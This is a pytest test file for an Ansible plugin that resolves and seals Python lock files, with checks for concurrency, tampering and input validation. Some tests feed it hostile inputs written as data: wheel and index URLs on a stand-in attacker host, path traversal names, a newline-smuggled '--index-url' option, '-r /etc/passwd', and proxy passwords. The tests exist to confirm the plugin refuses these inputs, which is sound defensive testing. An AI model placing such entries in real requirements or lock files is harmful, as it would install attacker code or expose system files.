# SPDX-License-Identifier: GPL-3.0-or-later
"""Locks on the controller: what decides on them, and who resolves while the others wait."""

from __future__ import annotations

import re
import threading
from pathlib import Path
from typing import Any

import pytest
from ansible_collections.neuronops.vllm.plugins.action import python_lock as action

NEURON = "https://neuron.example.com"
LOCK = "# head\nidna==3.10 \\\n    --hash=sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\n"


def arguments(path: Path, **others: Any) -> dict[str, Any]:
    return {
        "name": "demo",
        "path": str(path),
        "requirements": ["idna"],
        "python": "/usr/bin/python3.11",
        "python_version": "3.11",
        "architecture": "x86_64",
        **others,
    }


def test_a_lock_is_another_when_what_goes_into_it_is(tmp_path: Path) -> None:
    first = action.lock_file(arguments(tmp_path))
    assert first.name.startswith("demo-cp311-x86_64-")
    # Where files are downloaded from does not matter, as their hashes are known.
    assert action.lock_file(arguments(tmp_path, sources={"index_url": NEURON}, python="/opt/python3.11")) == first
    for change in (
        {"requirements": ["idna<4"]},
        {"constraints": ["idna<4"]},
        {"excluded": ["idna"]},
        {"python_version": "3.10"},
        {"architecture": "aarch64"},
        {"sources": {"torch_index_url": NEURON}},
    ):
        assert action.lock_file(arguments(tmp_path, **change)) != first


def test_a_relative_folder_is_one_of_where_ansible_was_started(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    assert action.lock_file(arguments(Path("locks"))).parent == tmp_path / "locks"


class Host(action.ActionModule):  # type: ignore[misc]  # ansible has no types
    """The action on one host, with a resolution that takes a while and is counted."""

    resolutions: list[str]

    def __init__(self, resolutions: list[str], answer: dict[str, Any], check_mode: bool = False, **args: Any) -> None:
        self.resolutions, self.answer = resolutions, answer
        args = {"resolver": "host", **args}
        self._task = type("Task", (), {"args": args, "check_mode": check_mode, "diff": True, "async_val": 0})()
        self._connection = None

    def _execute_module(self, **_arguments: Any) -> dict[str, Any]:
        self.resolutions.append("resolved")
        threading.Event().wait(0.3)
        return self.answer


@pytest.fixture
def run_hosts(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Any:
    """Run the action on four hosts at the same time; returns their results and the resolutions."""
    monkeypatch.setattr(action.ActionBase, "run", lambda self, tmp=None, task_vars=None: {})
    monkeypatch.setattr(action.task_environment, "variables", lambda _action: {})
    monkeypatch.setattr(action.store.constants, "DEFAULT_LOCAL_TMP", str(tmp_path))

    def run(answer: dict[str, Any], **others: Any) -> tuple[list[dict[str, Any]], list[str]]:
        resolutions: list[str] = []
        results: list[dict[str, Any]] = []
        check_mode = others.pop("check_mode", False)
        args = arguments(tmp_path / "locks", **others)

        def one(number: int) -> None:
            host = Host(resolutions, answer, check_mode, **args)
            results.append(host.run(task_vars={"inventory_hostname": f"host{number}"}))

        threads = [threading.Thread(target=one, args=(number,)) for number in range(4)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        return results, resolutions

    return run


def test_one_host_resolves_for_all(run_hosts: Any) -> None:
    results, resolutions = run_hosts({"lock": LOCK})
    assert resolutions == ["resolved"]
    assert sorted(result["resolved"] for result in results) == [False, False, False, True]
    assert {result["lock"] for result in results} == {results[0]["lock"]}
    assert results[0]["packages"]["idna"] == "3.10"
    results, resolutions = run_hosts({"lock": LOCK})
    assert resolutions == []
    assert not any(result["changed"] for result in results)


def test_a_failure_is_not_repeated_by_those_who_waited_for_it(run_hosts: Any) -> None:
    results, resolutions = run_hosts({"failed": True, "msg": "Neuron's index is down"})
    assert resolutions == ["resolved"]
    assert all(result["failed"] and "Neuron's index is down" in result["msg"] for result in results)
    results, _resolutions = run_hosts({"lock": LOCK})
    assert not any(result.get("failed") for result in results)


def test_a_refresh_happens_once_in_a_run(run_hosts: Any) -> None:
    run_hosts({"lock": LOCK}, refresh=True)
    _results, resolutions = run_hosts({"lock": LOCK}, refresh=True)
    assert resolutions == []


def test_a_check_run_resolves_nothing(run_hosts: Any, tmp_path: Path) -> None:
    results, resolutions = run_hosts({"lock": LOCK}, check_mode=True)
    assert resolutions == []
    assert all(result["changed"] and result["lock"] == "" for result in results)
    assert not (tmp_path / "locks").exists()


def test_an_answer_that_is_no_lock_is_written_nowhere(run_hosts: Any, tmp_path: Path) -> None:
    evil = f"evil @ http://attacker.example.com/evil.whl --hash=sha256:{'a' * 64}\n"
    for answer in (LOCK + evil, LOCK + "--index-url http://attacker.example.com/simple\n", "", 3):
        results, _resolutions = run_hosts({"lock": answer})
        assert all(result["failed"] for result in results)
    assert not list((tmp_path / "locks").glob("*.txt"))


@pytest.mark.parametrize("other", [{"requirements": ["idna==3.9"]}, {"excluded": ["idna"]}])
def test_an_answer_without_what_was_asked_for_is_refused(run_hosts: Any, other: dict[str, Any]) -> None:
    results, _resolutions = run_hosts({"lock": LOCK}, **other)
    assert all("is no lock that can be used" in result["msg"] for result in results)


def test_which_host_resolved_a_lock_makes_it_no_other(run_hosts: Any, tmp_path: Path) -> None:
    results, _resolutions = run_hosts({"lock": LOCK})
    (file,) = (tmp_path / "locks").glob("*.txt")
    text = action.unsealed(file.read_text(), required=True)
    file.write_text(action.sealed(re.sub(r"resolved on host host\d", "resolved on host other", text)))
    assert "resolved on host other.\n" in file.read_text()
    again, resolutions = run_hosts({"lock": LOCK})
    assert resolutions == [] and {result["lock"] for result in [*results, *again]} == {results[0]["lock"]}


def test_a_lock_that_was_edited_is_refused_or_understood(run_hosts: Any, tmp_path: Path) -> None:
    run_hosts({"lock": LOCK})
    (file,) = (tmp_path / "locks").glob("*.txt")
    whole = action.unsealed(file.read_text(), required=True)
    assert "# It was resolved on host host" in whole
    for edited in (whole + "-e .\n", whole.replace("==", "[x]=="), whole + "\x0c", whole[:-1] + "\r\n"):
        file.write_bytes(edited.encode())
        results, resolutions = run_hosts({"lock": LOCK})
        assert all(result["failed"] and str(file) in result["msg"] for result in results), edited
        assert resolutions == []
    file.write_text("# mine\n" + whole.replace(" \\\n   ", ""))
    results, _resolutions = run_hosts({"lock": LOCK})
    understood = "# mine\n" + re.sub(r"# It was resolved on host host\d\.\n", "", whole)
    assert results[0]["lock"] == understood, "what is installed is what was understood"


@pytest.mark.parametrize(
    "other",
    [
        {"name": "../../elsewhere/x"},
        {"name": "a/b"},
        {"python_version": "3.11/../x"},
        {"architecture": "x86_64/../../x"},
        {"requirements": ["idna @ http://attacker.example.com/x.whl"]},
        {"requirements": ["idna\n--index-url http://attacker.example.com"]},
        {"constraints": ["-r /etc/passwd"]},
        {"excluded": ["a\nb"]},
        {"refresh": "perhaps"},
    ],
)
def test_what_has_not_its_form_is_refused_before_a_path_is_made(
    run_hosts: Any, tmp_path: Path, other: dict[str, Any]
) -> None:
    results, resolutions = run_hosts({"lock": LOCK}, **other)
    assert all(result["failed"] for result in results)
    assert resolutions == []
    assert list(tmp_path.iterdir()) == []


def test_false_as_text_is_false(run_hosts: Any) -> None:
    run_hosts({"lock": LOCK}, refresh="false")
    (_results, resolutions) = run_hosts({"lock": LOCK}, refresh="no")
    assert resolutions == []


@pytest.mark.parametrize("check_mode", [False, True])
def test_a_folder_that_cannot_be_written_to_is_named_before_any_work(
    run_hosts: Any, tmp_path: Path, check_mode: bool
) -> None:
    (tmp_path / "locks").write_text("a file")
    results, resolutions = run_hosts({"lock": LOCK}, check_mode=check_mode)
    assert all("Set neuron_state to" in result["msg"] for result in results)
    assert all("neuron_venv_lock_path" in result["msg"] for result in results)
    assert resolutions == []


def test_the_controller_resolves_and_says_so(run_hosts: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    asked: list[Any] = []

    def resolve(arguments: dict[str, Any], uv: str, python: str, elsewhere: bool) -> str:
        asked.append((arguments["requirements"], uv, elsewhere))
        return LOCK.replace("# head\n", "")

    monkeypatch.setattr(action, "on_controller", lambda *_arguments: "/tools/uv")
    monkeypatch.setattr(action, "resolve", resolve)
    results, resolutions = run_hosts({"lock": "never asked"}, resolver="controller")
    assert (asked, resolutions) == ([(["idna"], "/tools/uv", True)], [])
    assert {result["lock"] for result in results} == {
        action.unsealed(next((tmp_path / "locks").glob("*.txt")).read_text())
    }
    assert "# It was resolved on the controller.\n" in results[0]["lock"]


def test_a_folder_on_the_hosts_is_not_the_controllers(run_hosts: Any, tmp_path: Path) -> None:
    for wheelhouse in ("/srv/wheels", "file:///srv/wheels"):
        results, _resolutions = run_hosts({"lock": LOCK}, resolver="controller", sources={"wheelhouse": wheelhouse})
        assert all("neuron_venv_lock_resolver" in result["msg"] for result in results)
    assert not (tmp_path / "locks").exists()
    run_hosts({"lock": LOCK}, sources={"wheelhouse": "/srv/wheels"})
    results, _resolutions = run_hosts({}, resolver="controller", sources={"wheelhouse": "/srv/wheels"})
    assert results[0]["packages"] == {"idna": "3.10"}, "a lock that is there needs nobody to resolve"


@pytest.mark.parametrize(
    ("environment", "refused"),
    [
        ({"HTTPS_PROXY": "http://user:PROXYSECRET@proxy:3128"}, True),
        ({"PIP_EXTRA_INDEX_URL": "https://a.example.com https://token@b.example.com"}, True),
        ({"http_proxy": "user:PROXYSECRET@proxy:3128"}, True),
        ({"UV_INDEX_OWN_PASSWORD": "PROXYSECRET"}, True),
        ({"HTTPS_PROXY": "http://proxy:3128", "NO_PROXY": "a@b"}, False),
    ],
)
def test_a_password_in_the_tasks_environment_is_refused_before_anything_starts(
    run_hosts: Any, monkeypatch: pytest.MonkeyPatch, environment: dict[str, str], refused: bool
) -> None:
    monkeypatch.setattr(action.task_environment, "variables", lambda _action: environment)
    results, resolutions = run_hosts({"lock": LOCK})
    assert all(bool(result.get("failed")) is refused for result in results)
    assert bool(resolutions) is not refused
    assert "PROXYSECRET" not in str(results)
    if refused:
        assert "/etc/pip.conf" in results[0]["msg"]
